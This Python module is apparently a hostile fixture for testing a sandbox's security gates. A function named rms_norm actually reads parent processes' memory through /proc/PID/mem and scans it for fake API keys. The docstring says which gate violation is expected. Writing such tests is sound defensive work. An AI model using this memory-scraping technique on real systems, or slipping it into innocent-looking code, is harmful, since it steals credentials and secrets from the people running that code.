"""Class 4, secrets (read out of the parent processes' memory).

Tries: walks up its parent processes and, for each, reads its writable memory regions through
/proc/PID/maps and /proc/PID/mem (at most 256 MB per process), looking for the test's fake keys
(sk-hostile-test-..., sk-ant-hostile-test-..., hostile-test-token-...); a process of the same uid
(root reads everything) gives its os.environ away this way. Raises a RuntimeError listing what it
found.
Gates must report: SB003 (reads outside the temp dir) or the gate error of the exception; no fake
key may appear in any output (an unprivileged runner cannot read the judge's or audit's memory).
"""

import os
import re

import torch

_KEY = re.compile(rb"(?:sk-ant-|sk-)?hostile-test-(?:token-)?[0-9a-f]{24}")


def _scan(pid):
    found, budget = set(), 256 << 20
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or not fields[1].startswith("rw") or budget <= 0:
                    continue
                start, end = (int(v, 16) for v in fields[0].split("-"))
                size = min(end - start, budget)
                budget -= size
                try:
                    mem.seek(start)
                    found |= {m.decode() for m in _KEY.findall(mem.read(size))}
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        pass
    return found


def rms_norm(x, weight, eps):
    found, pid = set(), os.getppid()
    for _ in range(4):
        found |= _scan(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    raise RuntimeError("hostile secret dump: " + (" ".join(sorted(found)) or "none found"))
